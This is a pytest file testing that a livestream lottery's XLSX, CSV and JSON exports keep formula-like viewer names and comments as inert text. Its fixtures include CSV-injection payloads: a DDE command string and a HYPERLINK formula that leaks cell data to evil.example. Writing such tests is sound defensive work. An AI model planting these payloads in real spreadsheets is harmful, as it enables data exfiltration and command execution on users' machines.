"""A lottery's entrants are any viewers who wrote the keyword: a name or comment that a spreadsheet would take for a
formula ("=HYPERLINK(…)", "+1", "@SUM(…)") is exported as the text written — an XLSX text cell, a CSV cell after an
apostrophe — and never runs on the team's computer when the file is opened; the JSON record keeps it exactly."""

from __future__ import annotations

import csv
import json
from datetime import UTC, datetime
from pathlib import Path

import openpyxl

from console.core.chat.events import ChatEvent, ChatKind
from console.core.chat.lottery import Lottery
from console.core.chat.lottery_export import write_lottery
from console.core.storage import Storage
from tests.language import chinese

OPENED = 1_764_000_000.0
LINK = '=HYPERLINK("http://evil.example/?"&A1,"#抽奖 领券")'
ENTRANTS = [
    ("小明", "#抽奖 我要"),
    ("=cmd|' /C calc'!A0", "#抽奖"),
    ("+1+1", "@SUM(1,2) #抽奖"),
    ("Lily", LINK),
    ("-阿强-", "-#抽奖-"),
]


def drawn_record(tmp_path: Path) -> object:
    storage = Storage(f"sqlite:///{tmp_path / 'onair.db'}")
    storage.migrate()
    try:
        show, _ = storage.open_show("demo", datetime.fromtimestamp(OPENED, UTC), 120)
        lottery, seed = Lottery.open("#抽奖", 5, (), now=OPENED, mono=0.0, room="demo", show_id=show.id)
        lottery_id = storage.open_lottery(show.id, lottery.record, seed)
        for n, (name, text) in enumerate(ENTRANTS):
            lottery.offer(ChatEvent("douyin", "f", ChatKind.COMMENT, f"=id{n}", name, text, t=1.0 + n))
        storage.add_lottery_entries(lottery_id, lottery.take_new())
        storage.draw_lottery(lottery_id, OPENED + 30)
        return storage.lottery(lottery_id)
    finally:
        storage.close()


def test_formula_like_names_and_comments_stay_text_in_xlsx_and_csv(tmp_path: Path) -> None:
    record = drawn_record(tmp_path)
    say = chinese()
    xlsx, sheet_csv, record_json = tmp_path / "draw.xlsx", tmp_path / "draw.csv", tmp_path / "draw.json"
    for path in (xlsx, sheet_csv, record_json):
        write_lottery(record, path, say)  # type: ignore[arg-type]

    entries = openpyxl.load_workbook(xlsx).worksheets[1]
    rows = list(entries.iter_rows(min_row=2))
    assert len(rows) == len(ENTRANTS)
    cells = [cell for row in rows for cell in row if isinstance(cell.value, str)]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == [], "no viewer's text is a formula"
    names = {row[3].value: row[5].value for row in rows}
    assert names == dict(ENTRANTS), "shown exactly as written"

    lines = list(csv.reader(sheet_csv.read_text(encoding="utf-8-sig").splitlines()))
    table = lines[lines.index([]) + 2 :]
    written = {row[3]: row[5] for row in table}
    assert written == {
        "小明": "#抽奖 我要",
        "'=cmd|' /C calc'!A0": "#抽奖",
        "'+1+1": "'@SUM(1,2) #抽奖",
        "Lily": "'" + LINK,
        "'-阿强-": "'-#抽奖-",
    }
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in table for cell in row), table

    exact = json.loads(record_json.read_text(encoding="utf-8"))
    assert {e["user_name"]: e["comment"] for e in exact["entries"]} == dict(ENTRANTS), "the record keeps the text"
